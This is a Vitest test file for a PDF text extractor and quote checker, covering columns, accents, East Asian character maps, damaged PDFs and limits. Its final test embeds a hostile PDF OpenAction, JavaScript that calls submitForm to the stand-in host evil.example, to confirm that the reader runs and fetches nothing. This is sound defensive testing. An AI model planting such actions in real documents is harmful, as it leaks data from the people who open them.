import { describe, expect, test, vi } from 'vitest';
import { column, LOCKED, type MadePdf, makePdf } from '@/tests/fixtures/make-pdf';
import { openPdf } from '@/utils/page/open-pdf';
import { PDF_LIMITS } from '@/utils/page/pdf-pages';
import { readPdf } from '@/utils/page/read-pdf';
import { assemblePdfText } from '@/utils/text/assemble-pdf-text';
import { clipOf } from '../../unit/verify/quote-fixture';

const ADDRESS = 'https://rivers.example/report.pdf';
const QUOTE = 'The river rose by 61 centimetres overnight';
const LINES = ['The river rose by 61 centimetres', 'overnight, and fell again.'];

async function textOf(made: MadePdf) {
  const opened = await openPdf(makePdf(made));
  if (!opened.ok) throw new Error(opened.error);
  return assemblePdfText(opened.value.pages, opened.value.language);
}

/** A font of Adobe's East Asian characters whose text is in the encoding of a character map. */
function eastAsianFont(map: string, ordering: string): string {
  const described =
    '/FontDescriptor << /Type /FontDescriptor /FontName /Song /Flags 4 /Ascent 800 /Descent -200 /CapHeight 700 /ItalicAngle 0 /StemV 80 /FontBBox [0 -200 1000 900] >>';
  const system = `/CIDSystemInfo << /Registry (Adobe) /Ordering (${ordering}) /Supplement 2 >>`;
  return `<< /Type /Font /Subtype /Type0 /BaseFont /Song /Encoding /${map} /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Song ${system} ${described} >>] >>`;
}

async function judge(bytes: Uint8Array<ArrayBuffer>, quote = QUOTE) {
  const answer = {
    requestedUrl: ADDRESS,
    finalUrl: ADDRESS,
    status: 200,
    contentType: 'application/pdf',
  };
  const { text, judgements } = await readPdf(bytes, answer, [clipOf(quote)], openPdf);
  const [judged] = judgements;
  if (judged === undefined) throw new Error('There was one quote.');
  return { text, ...judged };
}

describe('the text of a PDF', () => {
  test('is the text of its lines, page by page, in its language', async () => {
    const pages = [column(LINES), column(['On the second page it still rains.'])];
    const pdf = await textOf({ language: 'en-GB', pages });
    expect(pdf.text).toBe(`${LINES.join(' ')}\nOn the second page it still rains.`);
    expect(pdf.blocks.map(({ language }) => language)).toEqual(['en-GB', 'en-GB']);
    expect(pdf.pageStarts).toEqual([0, LINES.join(' ').length + 1]);
  });

  test('keeps typographers’ marks and accents', async () => {
    const line = 'L’été “dernier” – 12 € à l’écluse…';
    expect((await textOf({ pages: [column([line])] })).text).toBe(line);
  });

  test('reads one column after the other', async () => {
    const left = column(['The left column breaks a dic-', 'tionary and goes']);
    const right = column(['down to its foot.', 'The right one follows.'], { x: 320 });
    expect((await textOf({ pages: [[...left, ...right]] })).text).toBe(
      'The left column breaks a dic\u00ADtionary and goes\ndown to its foot. The right one follows.',
    );
  });

  test('has the cells of a table apart', async () => {
    const row = [
      { text: '12', x: 72, y: 700 },
      { text: '300', x: 140, y: 700 },
    ];
    expect((await textOf({ pages: [row] })).text).toBe('12\n300');
  });

  test.each([
    ['set smaller and higher', { size: 7, y: 704, rise: 0 }, 'raised'],
    ['set with a rise', { size: 11, y: 700, rise: 4 }, 'raised'],
    ['set smaller and lower', { size: 7, y: 698, rise: 0 }, 'lowered'],
  ])('marks a figure that is %s', async (_name, figure, kind) => {
    const pages = [
      [
        { text: 'about 10', x: 72, y: 700 },
        { text: '2', x: 114.5, ...figure },
        { text: 'cells in it', x: 124, y: 700 },
      ],
    ];
    const pdf = await textOf({ pages });
    expect(pdf.text).toBe('about 102 cells in it');
    expect(pdf.marks).toEqual([{ start: 8, end: 9, kind }]);
  });

  test('is read on turned pages as well', async () => {
    const pages = [LINES.map((text, at) => ({ text, x: 100 + at * 14, y: 100, turned: 90 }))];
    expect((await textOf({ pages })).text).toBe(LINES.join(' '));
  });

  // Each of the codes spells 山, alone or with more, in the encoding that the map reads.
  test.each([
    ['90ms-RKSJ-H', 'Japan1', '8E5282CC90E1', '山の雪'],
    ['90ms-RKSJ-V', 'Japan1', '8E52', '山'],
    ['EUC-H', 'Japan1', 'BBB3', '山'],
    ['H', 'Japan1', '3B33', '山'],
    ['UniJIS-UCS2-HW-H', 'Japan1', '5C71', '山'],
    ['UniJIS-UTF16-H', 'Japan1', '5C71306E96EA', '山の雪'],
    ['UniJIS2004-UTF16-H', 'Japan1', '5C71', '山'],
    ['GBK-EUC-H', 'GB1', 'C9BD', '山'],
    ['GBK2K-V', 'GB1', 'C9BD', '山'],
    ['UniGB-UCS2-H', 'GB1', '5C71', '山'],
    ['ETen-B5-H', 'CNS1', 'A473', '山'],
    ['ETenms-B5-V', 'CNS1', 'A473', '山'],
    ['HKscs-B5-H', 'CNS1', 'A473', '山'],
    ['UniCNS-UTF16-H', 'CNS1', '5C71', '山'],
    ['KSCms-UHC-H', 'Korea1', 'BBEA', '산'],
    ['KSCms-UHC-HW-V', 'Korea1', 'BBEA', '산'],
    ['UniKS-UCS2-H', 'Korea1', 'C0B0', '산'],
  ])('that names the character map %s is read', async (map, ordering, codes, text) => {
    const font = eastAsianFont(map, ordering);
    const drawing = `BT /F1 11 Tf 72 700 Td <${codes}> Tj ET`;
    expect((await textOf({ pages: [[]], font, drawing })).text).toBe(text);
  });

  test('that needs a character map without a package is unread, and not without the quote', async () => {
    const made = { pages: [[]], font: eastAsianFont('78-RKSJ-H', 'Japan1') };
    const drawing = 'BT /F1 11 Tf 72 700 Td <8E52> Tj ET';
    const { verdict, evidence } = await judge(makePdf({ ...made, drawing }), '山の雪');
    expect([verdict, evidence.reason]).toEqual(['unchecked', 'pdf-no-text']);
  });
});

describe('a PDF that cannot be read', () => {
  test.each([
    ['with a password', makePdf({ pages: [column(LINES)], trailer: LOCKED }), 'pdf-locked'],
    ['that is none', new TextEncoder().encode('<!doctype html><p>Log in'), 'pdf-broken'],
    ['cut off at its head', makePdf({ pages: [column(LINES)] }).slice(0, 20), 'pdf-broken'],
    ['without a byte', new Uint8Array(), 'pdf-broken'],
    ['of pictures only', makePdf({ pages: [[], []], drawing: '0 0 99 99 re f' }), 'pdf-no-text'],
  ])('%s leaves its quotes unchecked', async (_name, bytes, reason) => {
    const { text, verdict, evidence } = await judge(bytes as Uint8Array<ArrayBuffer>);
    expect({ text, verdict, reason: evidence.reason, status: evidence.httpStatus }).toEqual({
      text: '',
      verdict: 'unchecked',
      reason,
      status: 200,
    });
  });

  test('is mended where its table of contents is damaged', async () => {
    const bytes = makePdf({ pages: [column(LINES)] });
    const table = new TextDecoder('latin1').decode(bytes).lastIndexOf('xref\n0');
    bytes.fill(0x20, table, table + 60);
    expect((await judge(bytes)).verdict).toBe('verbatim');
  });

  test('on some of its pages does not prove that a quote is missing', async () => {
    const bytes = makePdf({ pages: [column(LINES), [], column(['The end.'])] });
    expect(await judge(bytes)).toMatchObject({ verdict: 'verbatim', evidence: { detail: 'p. 1' } });
    const again = makePdf({ pages: [column(LINES), [], column(['The end.'])] });
    expect(await judge(again, 'Snow fell on the far side of the hills')).toMatchObject({
      verdict: 'unchecked',
      evidence: { reason: 'pdf-pages-unread', detail: 'p. 2' },
    });
  });
});

describe('limits', () => {
  const pages = Array.from({ length: 6 }, (_, at) => column([`This is page ${at.toString()}.`]));

  test('return the pages that were read until then', async () => {
    for (const limits of [{ pages: 2 }, { text: 40 }]) {
      const opened = await openPdf(makePdf({ pages }), { ...PDF_LIMITS, ...limits });
      expect(opened.ok && [opened.value.pages.length, opened.value.pageCount]).toEqual([2, 6]);
    }
  });

  test('of time fail where not even a page was read', async () => {
    const opened = await openPdf(makePdf({ pages }), { ...PDF_LIMITS, timeout: 1 });
    expect(opened).toEqual({ ok: false, error: 'timed-out' });
  });
});

test('runs and fetches nothing of a PDF, and ends its worker', async () => {
  const fetched = vi.spyOn(globalThis, 'fetch');
  const ended = vi.spyOn(Worker.prototype, 'terminate');
  const alerted = vi.spyOn(globalThis, 'alert').mockImplementation(() => undefined);
  try {
    const { verdict } = await judge(
      makePdf({
        pages: [column(LINES)],
        catalogue:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example/"\\)) >> /AA << /WC << /S /URI /URI (http://evil.example/) >> >>',
      }),
    );
    expect(verdict).toBe('verbatim');
    expect(fetched).not.toHaveBeenCalled();
    expect(alerted).not.toHaveBeenCalled();
    expect(ended).toHaveBeenCalledTimes(1);
  } finally {
    vi.restoreAllMocks();
  }
});
